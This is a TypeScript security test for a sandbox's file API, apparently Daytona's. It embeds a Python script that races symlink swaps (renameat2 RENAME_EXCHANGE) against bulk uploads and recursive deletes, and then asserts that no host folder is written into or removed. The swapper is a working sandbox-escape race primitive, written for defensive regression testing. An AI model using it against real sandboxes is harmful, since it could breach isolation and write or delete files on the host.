// Issue 13, the toolbox file API against a symlink swap raced from inside the sandbox: a folder the
// API is writing into (bulk upload) or deleting (recursive delete) is atomically exchanged with a
// symlink to a host folder (renameat2 RENAME_EXCHANGE in a tight loop). Nothing may be written into
// the host folder and nothing in it may be deleted. Bounded: 150 rounds each (stops at the first hit), the swapper stops itself.
import { test } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import type { Sandbox } from "@daytonaio/sdk";
import { sleep, startLab } from "./attack";

const ROUNDS = Number(process.env.DT_RACE_ROUNDS ?? 150);

// Exchange <dir> and <dir>.swap (one a folder, the other a symlink to the host folder) for N seconds;
// keeps a `victim/` folder with a file in whichever of the two is the real folder.
const SWAPPER = `
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
d, target, secs = sys.argv[1], sys.argv[2], float(sys.argv[3])
for p in (d, d + ".swap"):
    if os.path.lexists(p):
        os.system("rm -rf '%s'" % p)
os.makedirs(d + "/victim"); open(d + "/victim/f", "w").close()
os.symlink(target, d + ".swap")
end = time.time() + secs; n = 0
while time.time() < end:
    libc.renameat2(-100, d.encode(), -100, (d + ".swap").encode(), 2)
    n += 1
    if n % 64 == 0:
        real = d if not os.path.islink(d) else d + ".swap"
        try:
            os.makedirs(real + "/victim", exist_ok=True); open(real + "/victim/f", "w").close()
        except OSError:
            pass
print("swaps", n)
`;

async function startSwapper(sb: Sandbox, dir: string, hostTarget: string, seconds: number): Promise<void> {
  await sb.fs.uploadFile(Buffer.from(SWAPPER), "/tmp/swapper.py");
  const id = `swap-${Math.random().toString(36).slice(2, 8)}`;
  await sb.process.createSession(id);
  await sb.process.executeSessionCommand(id, { command: `python3 /tmp/swapper.py ${dir} ${hostTarget} ${seconds}`, runAsync: true });
  await sleep(300);
}

test("issue 13: symlink swaps raced against the toolbox file API", async (t) => {
  const lab = await startLab(t);
  const sb = await lab.ts.daytona.create({ name: "sec-race" });

  await t.test("bulk upload never writes into a host folder", async () => {
    const host = fs.mkdtempSync(path.join(os.tmpdir(), "dt-sec-upload-"));
    t.after(() => fs.rmSync(host, { recursive: true, force: true }));
    await startSwapper(sb, "/home/daytona/up", host, 60);
    for (let i = 0; i < ROUNDS; i++) {
      const files = Array.from({ length: 4 }, (_, j) => ({ source: Buffer.from(`round ${i} file ${j}`), destination: `/home/daytona/up/victim/u-${i}-${j}` }));
      await sb.fs.uploadFiles(files).catch(() => undefined);
      if (fs.readdirSync(host).length) break;
    }
    assert.deepEqual(fs.readdirSync(host, { recursive: true }), [], "files written into a host folder");
  });

  await t.test("recursive delete never removes a host folder", async () => {
    const host = fs.mkdtempSync(path.join(os.tmpdir(), "dt-sec-delete-"));
    t.after(() => fs.rmSync(host, { recursive: true, force: true }));
    fs.mkdirSync(path.join(host, "victim"));
    fs.writeFileSync(path.join(host, "victim", "canary"), "keep me");
    await startSwapper(sb, "/home/daytona/del", host, 60);
    for (let i = 0; i < ROUNDS; i++) {
      await sb.fs.deleteFile("/home/daytona/del/victim", true).catch(() => undefined);
      if (!fs.existsSync(path.join(host, "victim", "canary"))) break;
      await sleep(20);
    }
    assert.ok(fs.existsSync(path.join(host, "victim", "canary")), "a recursive delete in the sandbox removed a host folder");
  });
});
